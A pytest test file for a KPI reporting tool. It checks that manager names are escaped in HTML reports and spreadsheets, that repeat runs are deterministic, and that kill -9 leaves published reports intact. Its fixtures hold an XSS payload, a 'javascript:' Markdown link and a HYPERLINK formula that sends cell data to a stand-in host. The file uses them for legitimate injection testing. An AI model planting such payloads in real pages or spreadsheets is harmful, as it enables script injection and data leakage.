"""Crash safety, determinism and escaping of user strings, end to end."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import tempfile
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml

from conftest import KPI_BIN, ROOT, run_cli
from helpers.run import kernels
from helpers.run.runner import notebook_scope

pytestmark = pytest.mark.slow
HOSTILE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click me")'
MARKDOWN = "[x](javascript:alert(1)) **BOLD** $x^2$ _i_"


@pytest.fixture(scope="module")
def hostile_params(tmp_path_factory, demo_dir, demo_params) -> Path:
    """The demo with three east-1 managers named like attacks: HTML, a spreadsheet
    formula, and Markdown with a mathtext formula."""
    root = tmp_path_factory.mktemp("hostile")
    data = root / "data"
    shutil.copytree(demo_dir, data)
    m = pd.read_csv(data / "managers.csv", dtype=str, keep_default_na=False)
    east = m.index[m["team_id"] == "east-1"]
    m.loc[east[0], "name"], m.loc[east[1], "name"], m.loc[east[2], "name"] = HOSTILE, FORMULA, MARKDOWN
    m.to_csv(data / "managers.csv", index=False)
    params = yaml.safe_load(demo_params.read_text(encoding="utf-8"))
    params["data"]["folder"] = str(data)
    p = root / "p.yaml"
    p.write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    return p


def digest_tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def hostile_run(hostile_params, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile_out")
    proc = run_cli("run", str(hostile_params), "--team", "east-1", "--out", str(out), "--no-progress")
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]  # "$x^2$" fails no chart
    return out


def test_user_strings_are_escaped_in_html_and_browser(hostile_params, hostile_run, browser):
    out = hostile_run
    every = sorted((out / "2026Q3" / "east-1").glob("*.html"))
    pages = [p for p in every if not p.name.startswith("statement_")]
    statements = [p for p in every if p.name.startswith("statement_")]
    notebooks = yaml.safe_load(hostile_params.read_text(encoding="utf-8"))["notebooks"]
    per_team = [nb for nb in notebooks if notebook_scope(ROOT / "notebooks" / f"{nb}.ipynb") == "team"]
    assert [p.stem for p in pages] == sorted(per_team)
    # each manager's own statement: the hostile name is text in its owner's, never markup in any
    texts = [p.read_text(encoding="utf-8") for p in statements]
    assert statements and all("<img src=x" not in x for x in texts)
    assert sum("&lt;img src=x onerror=alert(1)&gt;" in x for x in texts) == 1
    for page_path in pages:  # every notebook shows the manager's name; none may run it
        html = page_path.read_text(encoding="utf-8")
        assert "&lt;img src=x onerror=alert(1)&gt;" in html, page_path.name
        assert "<img src=x" not in html, page_path.name
    for page_path in (out / "2026Q3" / "_company").glob("*.html"):  # the leadership summary may name them too
        assert "<img src=x" not in page_path.read_text(encoding="utf-8"), page_path.name
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto((out / "2026Q3" / "east-1" / "00_data_quality.html").as_uri())
    page.wait_for_load_state("load")
    assert HOSTILE in page.locator("main").inner_text()  # shown as text
    assert page.locator('img[src="x"]').count() == 0 and dialogs == []
    page.close()


def test_markdown_in_names_is_text(hostile_run, browser):
    """A name with Markdown and a formula is shown as typed in every report: no link, no
    bold, no italics, no formula, no stray backslash."""
    pages = sorted((hostile_run / "2026Q3" / "east-1").glob("*.html"))
    for page_path in pages:
        html = page_path.read_text(encoding="utf-8")
        assert 'href="javascript' not in html and "<strong>BOLD</strong>" not in html, page_path.name
        assert "<em>i</em>" not in html and "\\*\\*BOLD" not in html, page_path.name
    page = browser.new_page()
    page.goto((hostile_run / "2026Q3" / "east-1" / "04_quarterly_review.html").as_uri())
    page.wait_for_load_state("load")
    text = page.locator("main").inner_text()
    assert MARKDOWN in text and FORMULA in text  # as typed, in the page's visible text
    assert page.locator('a[href^="javascript"]').count() == 0
    page.close()


def test_no_formula_reaches_the_spreadsheets(hostile_run):
    """OWASP's rule for text cells starting with = + - @: a leading apostrophe; in xlsx a string, never a formula."""
    import csv

    import openpyxl

    team = hostile_run / "2026Q3" / "east-1"
    wb = openpyxl.load_workbook(team / "scorecard.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c for c in cells if c.value == "'" + FORMULA]
    assert names and all(c.data_type == "s" for c in names)
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    for path in [*team.glob("*.csv"), *(hostile_run / "2026Q3" / "_company").glob("*.csv")]:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            bad = [cell for row in csv.reader(fh) for cell in row if cell.startswith(("=", "+", "@"))]
        assert not bad, (path.name, bad[:3])


def test_two_runs_give_byte_identical_csv(demo_params, demo_run, tmp_path):
    """A second run writes a team's CSV files (and the company summary's) byte for byte as
    the first did: here a run of one team, with another params file, against the
    session's demo run of every team (another process, started at another time)."""
    proc = run_cli("run", str(demo_params), "--team", "south-1", "--out", str(tmp_path / "a"), "--no-progress")
    assert proc.returncode == 0, proc.stderr[-2000:]
    first = {k: v for k, v in digest_tree(demo_run[1]).items()
             if k.startswith(("south-1/", "_company/")) and k.endswith(".csv")}
    again = {k: v for k, v in digest_tree(tmp_path / "a" / "2026Q3").items() if k.endswith(".csv")}
    assert len(first) >= 6 and again == first


@pytest.fixture(scope="module")
def dq_params(demo_params, tmp_path_factory) -> Path:
    """The demo params running notebook 00 only (a short run to kill)."""
    params = yaml.safe_load(demo_params.read_text(encoding="utf-8"))
    params["notebooks"] = ["00_data_quality"]
    p = tmp_path_factory.mktemp("dq") / "p.yaml"
    p.write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    return p


@pytest.fixture(scope="module")
def dq_published(dq_params, tmp_path_factory) -> Path:
    """An output folder with one published run of notebook 00 for east-2, made once: each
    kill test kills a run over its own copy (no published file names its folder)."""
    out = tmp_path_factory.mktemp("dq_published") / "out"
    first = run_cli("run", str(dq_params), "--team", "east-2", "--out", str(out), "--no-progress")
    assert first.returncode == 0, first.stderr[-2000:]
    return out


def _last_run(period: Path) -> str:
    return json.loads((period / "manifest.json").read_text(encoding="utf-8"))["last_run"]


@pytest.mark.parametrize("delay", [1.5, 4.0, 7.0])
def test_kill_9_leaves_previous_reports_intact(dq_params, dq_published, tmp_path, delay):
    """kill -9 of the whole process group at three moments (loading, preparing, running):
    the published reports stay as they were (or, if the run had finished, are complete),
    and the next run cleans up whatever the killed one left."""
    out = tmp_path / "out"
    args = [str(KPI_BIN), "run", str(dq_params), "--team", "east-2", "--out", str(out), "--no-progress"]
    shutil.copytree(dq_published, out)  # the reports a killed run must leave as they were
    assert sorted(p.name for p in out.iterdir()) == [".kpi-workbook.lock", "2026Q3"]
    before = digest_tree(out / "2026Q3")
    first_run = _last_run(out / "2026Q3")
    # the moments are those of a run that checks the data itself: not one reading the
    # prepared-data cache (helpers.data.cache), which would be done loading sooner
    victim = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
                              env=dict(os.environ, KPI_WORKBOOK_CACHE="off"))
    time.sleep(delay)
    if victim.poll() is None:
        os.killpg(victim.pid, signal.SIGKILL)
    victim.wait(timeout=60)
    period = out / "2026Q3"
    after = digest_tree(period)
    # the run may have published before the kill reached its process (a one-team run takes
    # a few seconds): then the reports are its own, complete; a journal left beside them
    # means the kill came while publishing, and the next run rolls it forward
    published = _last_run(period) != first_run
    journal = sorted(p.name for p in out.glob(".publish-*.json"))
    if victim.returncode != 0 and not published and not journal:  # killed before publishing: untouched
        assert after == before
    assert sorted(after) == sorted(before)  # finished or not, the same complete set of files
    assert not [k for k in after if k.endswith(".tmp") or "/." in "/" + k]
    again = run_cli(*args[1:])
    assert again.returncode == 0, again.stderr[-2000:]
    assert (period / "east-2" / "00_data_quality.html").exists()
    assert sorted(p.name for p in out.iterdir()) == [".kpi-workbook.lock", "2026Q3"]  # the rerun cleaned up
    # and removed the killed run's kernel-template folder in the temporary folder, had it made one
    assert not list(Path(tempfile.gettempdir()).glob(f"{kernels.FOLDER_PREFIX}*-p{victim.pid}-*"))
